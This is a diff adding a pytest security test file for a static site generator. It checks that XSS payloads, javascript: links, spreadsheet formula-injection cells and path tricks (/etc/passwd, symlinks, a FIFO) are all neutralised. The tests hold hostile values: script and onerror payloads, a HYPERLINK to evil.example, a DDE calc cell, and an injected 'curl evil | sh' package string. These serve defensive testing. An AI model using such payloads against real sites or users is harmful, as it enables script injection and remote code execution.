@@ -1,0 +1,300 @@
+"""Content is untrusted input (issue #11): one payload corpus, pushed through every text
+field, every path field and init's options. Nothing may run in a real browser, and nothing
+outside the project may be read into the site or written.
+
+Every script payload sets ``window.__pwned``; the browser test reads it on every page.
+"""
+
+from __future__ import annotations
+
+import itertools
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.browser import chromium, serve
+from tests.conftest import make_project
+from tests.htmlscan import Page
+
+SCRIPT_PAYLOADS = [
+    "<script>window.__pwned=1</script>",
+    '<img src=x onerror="window.__pwned=1">',
+    "<svg onload=window.__pwned=1>",
+    '"><img src=x onerror=window.__pwned=1>',
+    "'-window.__pwned=1-'",
+    "[click](javascript:window.__pwned=1)",
+    "[click]( JaVaScRiPt:window.__pwned=1)",
+    "[click](\njavascript:window.__pwned=1)",
+    "[click][r]\n\n[r]:\n  javascript:window.__pwned=1",
+    "[click](data:text/html,<script>window.__pwned=1</script>)",
+    "[click](vbscript:window.__pwned=1)",
+    "~~~\n<img src=x onerror=window.__pwned=1>\n~~~",
+    "\\`<img src=x onerror=window.__pwned=1>\\`",
+    "~~~\nx\n~~~\n{: onclick=window.__pwned=1 }",
+    "para {: onmouseover=window.__pwned=1 }",
+    "{{ 7*7 }} {% raw %} ${window.__pwned=1}",
+    "<iframe src=javascript:window.__pwned=1></iframe>",
+    '<a href="jav&#x09;ascript:window.__pwned=1">x</a>',
+    '=HYPERLINK("http://evil.example";"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
+
+
+def _payload_content(payloads: list[str], *, allow_html: bool) -> str:
+    """A complete playbook whose every text field holds a payload, in every language."""
+    cycle = itertools.cycle(payloads)
+
+    def text() -> dict[str, str]:
+        return {"sv": next(cycle) + " å", "nb": next(cycle) + " ø", "en": next(cycle)}
+
+    data = {
+        "site": {
+            "title": text(),
+            "description": text(),
+            "client": next(cycle),
+            "allow_html": allow_html,
+            "languages": [
+                {"code": "sv", "default": True, "name": next(cycle)},
+                {"code": "nb", "name": next(cycle)},
+                {"code": "en"},
+            ],
+            "branding": {"copyright": text()},
+        },
+        "sources": [
+            {
+                "id": "src",
+                "title": next(cycle),
+                "author": next(cycle),
+                "publisher": next(cycle),
+                "language": "sv",
+                "note": text(),
+            }
+        ],
+        "facts": [{"id": "fact", "text": text(), "source": "src", "caveat": text()}],
+        "glossary": [{"id": "term", "term": text(), "definition": text(), "also": text()}],
+        "checklists": [
+            {
+                "id": "shared",
+                "name": text(),
+                "summary": text(),
+                "items": [{"id": "s1", "text": text()}],
+                "stages": ["j/a"],
+            }
+        ],
+        "journeys": [
+            {
+                "id": "j",
+                "name": text(),
+                "summary": text(),
+                "about": text(),
+                "cyclic": True,
+                "checklist": [{"id": "before", "text": text()}],
+                "stages": [
+                    {
+                        "id": "a",
+                        "name": text(),
+                        "summary": text(),
+                        "description": text(),
+                        "checklist": [{"id": "c1", "text": text()}, {"id": "c2", "text": text()}],
+                        "prompts": [{"id": "p1", "text": text()}],
+                        "facts": ["fact"],
+                        "metrics": [{"id": "m1", "text": text()}],
+                    },
+                    {"id": "b", "name": text(), "summary": text(), "description": text()},
+                ],
+            },
+            {
+                "id": "k",
+                "name": text(),
+                "summary": text(),
+                "stages": [
+                    {
+                        "id": "x",
+                        "name": text(),
+                        "summary": text(),
+                        "description": text(),
+                        "corresponds_to": ["a"],
+                    }
+                ],
+            },
+        ],
+    }
+    return json.dumps(data, ensure_ascii=False, indent=1)  # JSON is YAML
+
+
+@pytest.fixture(scope="module", params=[False, True], ids=["default", "allow_html"])
+def hostile_site(request, tmp_path_factory) -> Path:
+    project = tmp_path_factory.mktemp("hostile")
+    content = make_project(project, _payload_content(SCRIPT_PAYLOADS, allow_html=request.param))
+    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
+    env.pop("PLAYBOOK_ALREADY_GENERATED", None)
+    result = subprocess.run(
+        [sys.executable, "-m", "generator", "build", "-c", str(content)],
+        env=env,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    return project / "site"
+
+
+pytestmark = pytest.mark.slow
+
+
+def test_no_page_holds_live_script_from_content(hostile_site):
+    pages = sorted(hostile_site.rglob("*.html"))
+    assert len(pages) > 20
+    for path in pages:
+        page = Page(path)
+        for tag, attrs in page.tags:
+            for name, value in attrs.items():
+                assert not (name.startswith("on") and "__pwned" in value), (path, tag, name)
+                if name in ("href", "src", "action", "formaction"):
+                    lowered = "".join(value.split()).lower()
+                    assert not lowered.startswith(("javascript:", "vbscript:", "data:")), (
+                        path,
+                        value,
+                    )
+            assert tag not in ("iframe", "object", "embed"), (path, tag)
+        html = path.read_text(encoding="utf-8")
+        assert "<script>window.__pwned" not in html, path
+
+
+def test_nothing_from_content_runs_in_the_browser(hostile_site):
+    pages = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("index.html"))
+    with serve(hostile_site) as base, chromium() as browser:
+        page = browser.new_page()
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        for relative in pages:
+            page.goto(base + relative)
+            # Hover and click every link and button a reader could, then read the global.
+            for link in page.locator("article a, article button, .md-header a").all()[:40]:
+                try:
+                    link.hover(timeout=500)
+                    href = link.get_attribute("href") or ""
+                    if not href.startswith(("http", "/", ".", "#")) and href:
+                        link.click(timeout=500, no_wait_after=True)
+                except Exception:  # invisible or detached: nothing a reader could do either
+                    pass
+            assert page.evaluate("window.__pwned") is None, relative
+        assert dialogs == []
+        page.close()
+
+
+def test_exported_spreadsheet_cells_never_start_a_formula(hostile_site):
+    import csv
+
+    downloads = sorted(hostile_site.glob("downloads/*.csv"))
+    assert downloads
+    for path in downloads:
+        text = path.read_text(encoding="utf-8-sig")
+        dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=",;")
+        for row in csv.reader(text.splitlines(), dialect):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
+
+
+# Path fields: nothing outside the project is read into the site.
+
+
+@pytest.mark.parametrize(
+    "field, value, message",
+    [
+        ("logo", "../secret.png", "leads outside the project"),
+        ("logo", ".git/config", "is not one of the file types allowed here"),
+        ("logo", ".git/logo.png", "inside .git/"),
+        ("favicon", "link.png", "leads outside the project"),
+        ("logo", "zero.png", "leads outside the project"),  # a symlink to /dev/zero
+        ("logo", "fifo.png", "not a regular file"),
+        ("extra_css", "remote.css", "imports or fetches from another address"),
+        ("logo", "active.svg", "contains a script"),
+        ("logo", "/etc/passwd.png", "not a relative path"),
+    ],
+)
+def test_branding_paths_stay_inside_the_project(tmp_path, field, value, message):
+    (tmp_path / "secret.png").write_bytes(b"SECRET")
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / ".git").mkdir()
+    (project / ".git/logo.png").write_bytes(b"SECRET")
+    (project / "link.png").symlink_to(tmp_path / "secret.png")
+    (project / "zero.png").symlink_to("/dev/zero")
+    os.mkfifo(project / "fifo.png")  # would block a plain read forever
+    (project / "remote.css").write_text(
+        "@import url(https://evil.example/x.css);", encoding="utf-8"
+    )
+    (project / "active.svg").write_text('<svg onload="alert(1)"></svg>', encoding="utf-8")
+    data = json.loads(_payload_content(["Text"], allow_html=False))
+    data["site"]["branding"][field] = [value] if field == "extra_css" else value
+    content = make_project(project, json.dumps(data))
+    for command in ("validate", "generate"):
+        result = subprocess.run(
+            [sys.executable, "-m", "generator", command, "-c", str(content)],
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=60,
+        )
+        assert result.returncode == 1, result.stdout
+        assert f"site.branding.{field}" in result.stderr and message in result.stderr, result.stderr
+        assert "Traceback" not in result.stderr and "SECRET" not in result.stderr
+    assert not (project / "playbook/assets").exists()
+
+
+# init's options are quoted for every file they land in.
+
+
+def test_init_options_cannot_escape_their_context(tmp_path):
+    from generator.errors import GeneratorError
+    from generator.fork.init import init_project
+
+    for name in ("Acme\nextends: /etc/passwd", "Acme\u2028x", "Acme\x00"):
+        with pytest.raises(GeneratorError, match="one line"):
+            init_project(tmp_path / "a", name=name, extends="default", languages=["sv"])
+    assert not (tmp_path / "a").exists()
+    with pytest.raises(GeneratorError, match="plain pip requirement"):
+        init_project(
+            tmp_path / "b",
+            name="Acme",
+            extends="default",
+            languages=["sv"],
+            package='x"; curl evil | sh; "',
+        )
+    base = tmp_path / "bases#1/base.yaml"
+    base.parent.mkdir()
+    base.write_text("site: {title: Bas}\n", encoding="utf-8")
+    result = init_project(
+        tmp_path / "c",
+        name='Acme "<b>" #1 $(x)',
+        extends=str(base),
+        languages=["sv"],
+        package="journey-playbook==0.1.0",
+    )
+    import yaml
+
+    content = yaml.safe_load((tmp_path / "c/content.yaml").read_text(encoding="utf-8"))
+    assert content["extends"] == "../bases#1/base.yaml"
+    assert content["site"]["client"] == 'Acme "<b>" #1 $(x)'
+    assert "<b>" not in (tmp_path / "c/README.md").read_text(encoding="utf-8")
+    assert len(result.written) == 6
+
+
+def test_init_checks_every_file_before_writing_any(tmp_path):
+    from generator.errors import GeneratorError
+    from generator.fork.init import init_project
+
+    workflow = tmp_path / ".github/workflows/pages.yml"
+    workflow.parent.mkdir(parents=True)
+    workflow.write_text("# mine\n", encoding="utf-8")
+    with pytest.raises(GeneratorError, match="already holds a project"):
+        init_project(tmp_path, name="Acme", extends="default", languages=["sv"])
+    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file()) == ["pages.yml"]
+    assert workflow.read_text(encoding="utf-8") == "# mine\n"
